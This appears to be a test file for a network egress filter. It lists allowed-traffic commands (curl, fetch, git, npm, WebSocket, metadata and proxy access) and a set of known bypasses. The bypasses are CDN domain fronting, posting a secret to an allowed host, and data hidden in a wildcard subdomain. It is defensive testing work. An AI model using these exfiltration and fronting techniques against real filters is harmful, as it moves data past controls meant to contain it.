import { createHash } from 'node:crypto'
import { ALLOWED_NETWORK, CONTAINER, METADATA } from '../addresses.ts'
import { renderBulk } from '../outside/web.ts'
import { createUse, type OpenCase, type UseCase } from './case.ts'

const BULK_HASH = createHash('sha256').update(renderBulk()).digest('hex')
const UPLOAD_HASH = createHash('sha256').update(Buffer.alloc(2_000_000, 'u')).digest('hex')
const HOST = 'allowed.example.com'

/** What must go on working. */
export const USES: readonly UseCase[] = [
  createUse('curl, https', `curl -sS -m 8 https://${HOST}/$MARKER`),
  createUse('curl, http on port 80', 'curl -sS -m 8 http://plain.example.com/$MARKER', {
    receivedBy: 'plain.example.com',
  }),
  createUse('an allowed port', `curl -sS -m 8 https://${HOST}:8443/$MARKER`, { receivedBy: `${HOST}:8443` }),
  createUse('a wildcard rule', 'curl -sSk -m 8 https://deep.$MARKER.wild.example.org/$MARKER', {
    receivedBy: 'wild.example.org',
  }),
  createUse('node fetch', `node -e "fetch('https://${HOST}/$MARKER').then((r) => r.text()).then(console.log)"`),
  createUse(
    'python urllib',
    `python3 -c "import urllib.request as u; print(u.urlopen('https://${HOST}/$MARKER').read().decode())"`,
  ),
  createUse(
    'git clone',
    'cd $(mktemp -d) && git clone -q https://github.com/project.git && git -C project log --format=%s && curl -sS https://github.com/$MARKER',
    {
      expect: 'the first commit',
      receivedBy: 'github.com',
    },
  ),
  createUse(
    'npm ci',
    `cd $(mktemp -d) && cp $STAGE/project/* . && HOME=$PWD npm ci --no-audit --no-fund --registry https://made-up.npmjs.org/ && node -p "require('left')" && curl -sS https://made-up.npmjs.org/$MARKER`,
    { expect: 'left is here', receivedBy: 'made-up.npmjs.org' },
  ),
  createUse(
    'pip-shaped: index, then a file checked by its hash',
    `python3 -c "
import urllib.request as u, hashlib, re
page = u.urlopen('https://made-up.pypi.org/simple%2Fleft').read().decode()
url, digest = re.search(r'\\"(https[^\\"#]*)#sha256=([0-9a-f]*)', page).groups()
data = u.urlopen(url + '?$MARKER').read()
print('hash', hashlib.sha256(data).hexdigest() == digest)"`,
    { expect: 'hash True', receivedBy: 'made-up.pypi.org' },
  ),
  createUse('20 MB down, checked by hash', `curl -sS -m 20 "https://${HOST}/big?$MARKER" | sha256sum`, {
    expect: BULK_HASH,
  }),
  createUse('20 MB down over http', 'curl -sS -m 20 "http://plain.example.com/big?$MARKER" | sha256sum', {
    expect: BULK_HASH,
    receivedBy: 'plain.example.com',
  }),
  createUse(
    '2 MB up',
    `head -c 2000000 /dev/zero | tr '\\0' u | curl -sS -m 20 --data-binary @- "https://${HOST}/upload?$MARKER"`,
    {
      expect: `2000000 ${UPLOAD_HASH}`,
    },
  ),
  createUse(
    'a stream of events, each as it is sent',
    `node -e "
fetch('https://${HOST}/events?$MARKER').then(async (r) => {
  const arrived = [], sent = []
  for await (const chunk of r.body) for (const m of Buffer.from(chunk).toString().matchAll(/data: \\d (\\d+)/g)) { arrived.push(Date.now()); sent.push(Number(m[1])) }
  console.log('events', arrived.length, arrived[0] < sent[4] ? 'as they are sent' : 'all at once')
})"`,
    { expect: 'events 5 as they are sent' },
  ),
  createUse(
    'WebSocket',
    `node -e "
const ws = new WebSocket('wss://${HOST}/socket?$MARKER')
ws.onopen = () => ws.send('echo this')
ws.onmessage = (event) => { console.log('echoed', event.data); ws.close() }"`,
    { expect: 'echoed echo this' },
  ),
  createUse('a ClientHello in pieces', `attack splithello ${HOST} 443 /$MARKER`),
  createUse(
    'own ports on loopback',
    "node -e \"const s = require('http').createServer((q, r) => r.end('own server')).listen($PORT, '127.0.0.1', async () => { console.log(await (await fetch('http://127.0.0.1:$PORT/')).text(), await (await fetch('http://localhost:$PORT/')).text()); s.close() })\"",
    { expect: 'own server own server', receivedBy: null },
  ),
  createUse(
    'IPv6 loopback',
    "node -e \"const s = require('http').createServer((q, r) => r.end('own server')).listen($PORT, '::1', async () => { console.log(await (await fetch('http://[::1]:$PORT/')).text()); s.close() })\"",
    { expect: 'own server', receivedBy: null },
  ),
  createUse('a tcp rule on port 22', 'attack tcp ssh.example.com 22 $MARKER', {
    expect: 'SSH-2.0-outside',
    receivedBy: 'tcp-22',
  }),
  createUse('forward proxy variables', `HTTPS_PROXY=$PROXY https_proxy=$PROXY curl -sS -m 8 https://${HOST}/$MARKER`),
  createUse('forward proxy variables, http', 'http_proxy=$PROXY curl -sS -m 8 http://plain.example.com/$MARKER', {
    receivedBy: 'plain.example.com',
  }),
  createUse('a rule for addresses', `attack tcp ${ALLOWED_NETWORK.address} ${ALLOWED_NETWORK.port} $MARKER`, {
    expect: 'SSH-2.0-outside',
    receivedBy: `tcp-${ALLOWED_NETWORK.port}`,
  }),
  createUse(
    'children of children',
    `sh -c "node -e \\"require('child_process').execSync('curl -sS -m 8 https://${HOST}/$MARKER', { stdio: 'inherit' })\\""`,
  ),
  createUse('a private server that is allowed to be', 'curl -sS -m 8 https://ghes.example.com/$MARKER', {
    receivedBy: 'ghes.example.com',
  }),
  createUse('a host that has only IPv6', 'curl -sS -m 8 https://six.example.com/$MARKER', {
    receivedBy: 'six.example.com',
  }),
  createUse(
    'many requests on one connection',
    "node -e \"(async () => { let n = 0; for (let i = 0; i < 30; i++) n += (await (await fetch('http://plain.example.com/$MARKER')).text()).includes('outside'); console.log('answers', n) })()\"",
    { expect: 'answers 30', receivedBy: 'plain.example.com' },
  ),
  createUse(
    '40 connections at once',
    `node -e "Promise.all(Array.from({ length: 40 }, () => fetch('https://${HOST}/$MARKER').then((r) => r.text()))).then((all) => console.log('answers', all.filter((t) => t.includes('outside')).length))"`,
    { expect: 'answers 40' },
  ),
  createUse('a service container', `curl -sS -m 8 http://${CONTAINER.v4}:${CONTAINER.port}/`, {
    expect: 'database ready',
    receivedBy: null,
    levels: ['off', 'enforced'],
  }),
  createUse("the machine's own agent, as root", `curl -sS -m 8 http://${METADATA}/$MARKER`, {
    receivedBy: METADATA,
    user: 'root',
    levels: ['off', 'enforced'],
  }),
  createUse(
    'a model through the sidecar',
    'curl -sS -m 8 -H "authorization: Bearer $MODELTOKEN" -H "content-type: application/json" -d "{\\"model\\":\\"m\\",\\"input\\":\\"$MARKER\\"}" $MODEL/responses',
    { expect: 'model-answer', receivedBy: 'api.model.example.com', levels: ['enforced', 'wrapped'] },
  ),
]

const open = (name: string, script: string, receivedBy: string): OpenCase => ({
  kind: 'open',
  row: 'open by design',
  name,
  script,
  receivedBy,
})

/** What no filter of names can stop; the documentation says so. */
export const OPEN: readonly OpenCase[] = [
  open(
    'another Host inside the TLS of an allowed name (CDN fronting)',
    'curl -sS -m 8 -H "Host: bad.cdn.example.com" https://good.cdn.example.com/$MARKER',
    'bad.cdn.example.com',
  ),
  open('data to an allowed host', `curl -sS -m 8 -d secret=$MARKER https://${HOST}/`, HOST),
  open(
    'data in the sub-name of an allowed wildcard',
    'curl -sS -m 8 https://$MARKER.wild.example.org/',
    'wild.example.org',
  ),
]
